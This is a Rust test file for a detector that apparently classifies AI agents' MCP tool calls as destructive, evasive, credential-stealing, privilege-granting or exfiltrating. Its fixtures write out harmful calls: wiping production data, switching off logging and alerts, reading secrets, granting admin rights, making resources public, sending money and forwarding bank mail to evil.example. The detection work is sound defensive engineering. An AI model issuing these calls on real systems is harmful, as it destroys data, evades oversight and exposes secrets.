use defenseclaw_model::facts::BehaviourKind::{
    self, Abuse, Credential, Destruction, Evasion, Exfiltration, Persistence, Privilege,
};
use serde_json::json;

use super::super::facts_of;
use super::*;
use crate::tools::kind_of;
use defenseclaw_model::call::ToolCall;
use defenseclaw_model::ids::CallId;

fn done(tool: &str, input: &Value) -> Vec<(BehaviourKind, String, Option<Radius>)> {
    let call = ToolCall {
        call: CallId::new("c").unwrap(),
        tool: tool.to_owned(),
        kind: kind_of(tool, input, Some("/home/u/p"), Some("/home/u")),
        input: input.clone(),
    };
    let facts = facts_of(&call, Some("/home/u/p"), Some("/home/u"));
    facts
        .behaviours
        .into_iter()
        .filter(|known| known.technique.starts_with("tool-"))
        .map(|known| (known.kind, known.technique, known.radius))
        .collect()
}

#[test]
fn names_are_words_however_they_are_spelt() {
    let words = |name: &str| split(name, &DEEDS.vocabulary).join(" ");
    for (name, expected) in [
        ("deleteMany", "delete many"),
        ("DeleteDBCluster", "delete db cluster"),
        ("drop-collection", "drop collection"),
        ("repos.delete", "repos delete"),
        ("flushall", "flushall"),
        ("deleterepository", "delete repository"),
        ("STOP_LOGGING", "stop logging"),
        ("settings", "settings"),
        ("getSecretValue", "get secret value"),
    ] {
        assert_eq!(words(name), expected);
    }
    assert!(words(&"deletemany".repeat(1000)).len() <= 2 * MAX_NAME);
}

#[test]
fn what_tools_do_is_told_by_verb_and_object() {
    for (tool, input, kind, technique) in grave() {
        let found = done(tool, &input);
        assert!(
            found.contains(&(kind, technique.to_owned(), Some(Radius::Remote))),
            "{tool} {input}: {found:?}"
        );
    }
}

#[test]
fn ordinary_calls_do_nothing_of_that() {
    for (tool, input) in ordinary() {
        let found = done(tool, &input);
        let far: Vec<_> = found
            .iter()
            .filter(|known| known.2 == Some(Radius::Remote))
            .collect();
        assert!(far.is_empty(), "{tool} {input}: {found:?}");
    }
}

fn grave() -> Vec<(&'static str, Value, BehaviourKind, &'static str)> {
    vec![
        (
            "mcp__terraform__create_run",
            json!({"workspace": "core-prod", "is_destroy": true, "auto_apply": true}),
            Destruction,
            "tool-delete",
        ),
        (
            "mcp__elasticsearch__es_request",
            json!({"method": "DELETE", "path": "/_all?expand_wildcards=all"}),
            Destruction,
            "tool-delete",
        ),
        (
            "mcp__auth0__auth0_update_connection",
            json!({"id": "con_main", "options": {"brute_force_protection": false}}),
            Evasion,
            "tool-guard-off",
        ),
        (
            "mcp__grafana__create_silence",
            json!({"matchers": [{"name": "alertname", "value": ".*", "isRegex": true}]}),
            Evasion,
            "tool-guard-off",
        ),
        (
            "mcp__git__git_commit",
            json!({"message": "x", "author": "A <a@b.example>", "no_verify": true}),
            Evasion,
            "tool-past-review",
        ),
        (
            "mcp__salesforce__dml_records",
            json!({"operation": "insert", "records": [{"ProfileName": "System Administrator"}]}),
            Privilege,
            "tool-grant",
        ),
        (
            "mcp__sharepoint__createSharingLink",
            json!({"itemPath": "/a.docx", "type": "edit", "scope": "anonymous"}),
            Privilege,
            "tool-public",
        ),
        (
            "mcp__mongodb__deleteMany",
            json!({"collection": "orders", "filter": {}}),
            Destruction,
            "tool-delete",
        ),
        (
            "mcp__mongodb__drop-collection",
            json!({"collection": "orders"}),
            Destruction,
            "tool-delete",
        ),
        (
            "github.repos.delete",
            json!({"owner": "a", "repo": "b"}),
            Destruction,
            "tool-delete",
        ),
        (
            "mcp__aws__TerminateInstances",
            json!({"ids": ["i-1"]}),
            Destruction,
            "tool-delete",
        ),
        (
            "mcp__aws__call",
            json!({"service": "rds", "operation": "DeleteDBCluster", "parameters": {"x": "core-prod"}}),
            Destruction,
            "tool-delete",
        ),
        (
            "mcp_github_delete_repository",
            json!({"repo": "b"}),
            Destruction,
            "tool-delete",
        ),
        ("mcp__redis__flushall", json!({}), Destruction, "tool-delete"),
        (
            "mcp__cloudflare__delete_zone",
            json!({"zone": "example.com"}),
            Destruction,
            "tool-delete",
        ),
        (
            "mcp__github__delete_branch",
            json!({"repo": "app", "branch": "main"}),
            Destruction,
            "tool-delete",
        ),
        (
            "mcp__terraform__apply",
            json!({"auto_approve": true, "destroy": true, "dir": "prod"}),
            Destruction,
            "tool-delete",
        ),
        (
            "mcp__kubernetes__manage_resource",
            json!({"namespace": "kube-system", "resource": "deployment", "name": "coredns", "action": "delete"}),
            Destruction,
            "tool-delete",
        ),
        (
            "mcp__git__push",
            json!({"branch": "main", "force": true}),
            Destruction,
            "tool-history",
        ),
        (
            "mcp__github__update_ref",
            json!({"ref": "heads/main", "sha": "a", "force": true}),
            Destruction,
            "tool-history",
        ),
        (
            "mcp__aws__StopLogging",
            json!({"trail": "t"}),
            Evasion,
            "tool-guard-off",
        ),
        (
            "mcp__okta__reset_factors",
            json!({"user": "cfo@example.com"}),
            Evasion,
            "tool-guard-off",
        ),
        (
            "mcp__gitlab__unprotect_branch",
            json!({"name": "main"}),
            Evasion,
            "tool-guard-off",
        ),
        (
            "mcp__github__update_branch_protection",
            json!({"branch": "main", "enforce_admins": false}),
            Evasion,
            "tool-guard-off",
        ),
        (
            "mcp__pagerduty__create_maintenance_window",
            json!({"services": ["*"], "hours": 72}),
            Evasion,
            "tool-guard-off",
        ),
        (
            "mcp__memory__delete_entities",
            json!({"entityNames": ["safety_rules"]}),
            Evasion,
            "tool-guard-off",
        ),
        (
            "mcp__github__merge_pull_request",
            json!({"pull_number": 9, "bypass": true}),
            Evasion,
            "tool-past-review",
        ),
        (
            "mcp__aws__get_secret_value",
            json!({"id": "prod/db"}),
            Credential,
            "tool-secret",
        ),
        (
            "mcp__vault__readSecret",
            json!({"path": "kv/prod"}),
            Credential,
            "tool-secret",
        ),
        (
            "mcp__1password__get_item",
            json!({"item": "root"}),
            Credential,
            "tool-secret",
        ),
        (
            "mcp__wallet__export_private_key",
            json!({}),
            Credential,
            "tool-secret",
        ),
        (
            "mcp__aws__call",
            json!({"service": "ssm", "operation": "GetParametersByPath", "parameters": {"Path": "/", "WithDecryption": true}}),
            Credential,
            "tool-secret",
        ),
        (
            "mcp__aws__create_access_key",
            json!({"user": "admin"}),
            Persistence,
            "tool-key",
        ),
        (
            "mcp__github__createDeployKey",
            json!({"repo": "b", "key": "ssh-ed25519 A"}),
            Persistence,
            "tool-key",
        ),
        (
            "mcp__okta__assign_role",
            json!({"user": "x@example.com", "role": "SUPER_ADMIN"}),
            Privilege,
            "tool-grant",
        ),
        (
            "mcp__entra__add_group_member",
            json!({"group": "Global Administrators", "user": "x"}),
            Privilege,
            "tool-grant",
        ),
        (
            "mcp__github__add_collaborator",
            json!({"username": "zx", "permission": "admin"}),
            Privilege,
            "tool-grant",
        ),
        (
            "mcp__aws__call",
            json!({"operation": "PutBucketPolicy", "parameters": {"Policy": "{\"Statement\":[{\"Principal\":\"*\"}]}"}}),
            Privilege,
            "tool-public",
        ),
        (
            "mcp__github__update_repository",
            json!({"repo": "app", "visibility": "public"}),
            Privilege,
            "tool-public",
        ),
        (
            "mcp__gdrive__create_permission",
            json!({"fileId": "x", "type": "anyone", "role": "reader"}),
            Privilege,
            "tool-public",
        ),
        (
            "mcp__notion__update_page_permissions",
            json!({"page": "1", "public": true}),
            Privilege,
            "tool-public",
        ),
        (
            "mcp__aws__authorize_security_group_ingress",
            json!({"port": 22, "cidr": "0.0.0.0/0"}),
            Privilege,
            "tool-exposed",
        ),
        (
            "mcp__github__transfer_repository",
            json!({"repo": "b", "new_owner": "zx"}),
            Privilege,
            "tool-owner",
        ),
        (
            "mcp__stripe__create_payout",
            json!({"amount": 9999900, "destination": "ba_1x"}),
            Abuse,
            "tool-money",
        ),
        (
            "mcp__coinbase__send",
            json!({"to": "bc1x", "amount": 1}),
            Abuse,
            "tool-money",
        ),
        (
            "mcp__gmail__create_filter",
            json!({"criteria": {"from": "bank"}, "action": {"forward": "x@evil.example"}}),
            Exfiltration,
            "tool-forward",
        ),
    ]
}

fn ordinary() -> Vec<(&'static str, Value)> {
    vec![
        (
            "mcp__terraform__create_run",
            json!({"workspace": "core-network", "is_destroy": false, "plan_only": true}),
        ),
        (
            "mcp__elasticsearch__es_request",
            json!({"method": "GET", "path": "/_all/_search"}),
        ),
        (
            "mcp__elasticsearch__es_request",
            json!({"method": "DELETE", "path": "/logs/_doc/7"}),
        ),
        (
            "mcp__auth0__auth0_update_connection",
            json!({"id": "con_main", "options": {"brute_force_protection": true}}),
        ),
        (
            "mcp__grafana__create_silence",
            json!({"matchers": [{"name": "alertname", "value": "HighLatency", "isRegex": false}]}),
        ),
        (
            "mcp__git__git_commit",
            json!({"message": "x", "author": "A <a@b.example>", "signoff": true}),
        ),
        ("mcp__git__git_commit", json!({"message": "x", "no_verify": true})),
        (
            "mcp__salesforce__dml_records",
            json!({"operation": "insert", "records": [{"Subject": "Check"}]}),
        ),
        (
            "mcp__sharepoint__createSharingLink",
            json!({"itemPath": "/a.docx", "type": "view", "scope": "organization"}),
        ),
        (
            "mcp__mongodb__deleteMany",
            json!({"collection": "orders", "filter": {"_id": "7"}}),
        ),
        ("mcp__gmail__delete_draft", json!({"id": "7"})),
        ("mcp__github__remove_label", json!({"label": "bug"})),
        (
            "mcp__github__delete_branch",
            json!({"repo": "app", "branch": "feature/x"}),
        ),
        (
            "mcp__github__delete_repository",
            json!({"owner": "lea", "repo": "tmp-repro-4512"}),
        ),
        (
            "mcp__kubernetes__delete_resource",
            json!({"context": "kind-dev", "kind": "PersistentVolumeClaim", "name": "data-0"}),
        ),
        (
            "mcp__kubernetes__kubectl_delete",
            json!({"resourceType": "pod", "name": "api-7c9", "namespace": "shop"}),
        ),
        ("mcp__cloudflare__purge_cache", json!({"zone": "example.com"})),
        ("mcp__auth__revoke_session", json!({"id": "s1"})),
        ("mcp__aws__list_secrets", json!({})),
        ("mcp__github__list_secret_scanning_alerts", json!({"repo": "b"})),
        ("mcp__figma__get_design_tokens", json!({"file": "x"})),
        ("mcp__redis__get", json!({"key": "cart:7"})),
        (
            "mcp__stripe__create_payment_link",
            json!({"price": "p_1", "quantity": 1}),
        ),
        ("mcp__stripe__list_payouts", json!({})),
        (
            "mcp__linear__create_issue",
            json!({"title": "Delete database of old tenants", "team": "ops"}),
        ),
        (
            "mcp__slack__invite_to_channel",
            json!({"channel": "C1", "users": ["U1"]}),
        ),
        (
            "mcp__github__add_collaborator",
            json!({"username": "priya", "permission": "pull"}),
        ),
        (
            "mcp__gmail__create_filter",
            json!({"criteria": {"from": "ci"}, "action": {"addLabelIds": ["CI"]}}),
        ),
        (
            "mcp__github__update_branch_protection",
            json!({"branch": "main", "enforce_admins": true, "allow_force_pushes": false}),
        ),
        (
            "mcp__github__merge_pull_request",
            json!({"pull_number": 9, "bypass": false}),
        ),
        ("mcp__git__push", json!({"branch": "feature/x", "force": true})),
        ("mcp__github__transfer_issue", json!({"issue": 7, "to": "other"})),
        (
            "mcp__playwright__browser_click",
            json!({"element": "Delete repository button", "ref": "e12"}),
        ),
        (
            "mcp__google_sheets__delete_table_row",
            json!({"table": "t", "row": 3}),
        ),
        ("mcp__figma__delete_node", json!({"id": "1:2"})),
        (
            "mcp__aws__authorize_security_group_ingress",
            json!({"port": 443, "cidr": "0.0.0.0/0"}),
        ),
        (
            "mcp__gdrive__share_file",
            json!({"file": "a.xlsx", "role": "reader", "type": "user", "emailAddress": "a@acme.io"}),
        ),
        ("mcp__supabase__list_tables", json!({"schema": "public"})),
        ("mcp__github__search_code", json!({"query": "delete database"})),
    ]
}
